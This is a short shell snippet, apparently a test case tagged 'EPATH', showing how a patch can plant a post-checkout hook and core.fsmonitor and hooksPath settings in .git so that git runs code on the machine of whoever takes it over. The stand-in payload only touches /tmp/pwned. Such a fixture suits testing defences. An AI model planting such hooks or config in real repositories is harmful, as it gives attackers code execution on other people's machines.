# Fooled: git runs a program of the patch's on the machine of whoever takes it over.
# code: EPATH
git init -q . 2>/dev/null || mkdir -p .git/hooks
printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout
printf '[core]\n\tfsmonitor = touch /tmp/pwned\n\thooksPath = .\n' >> .git/config
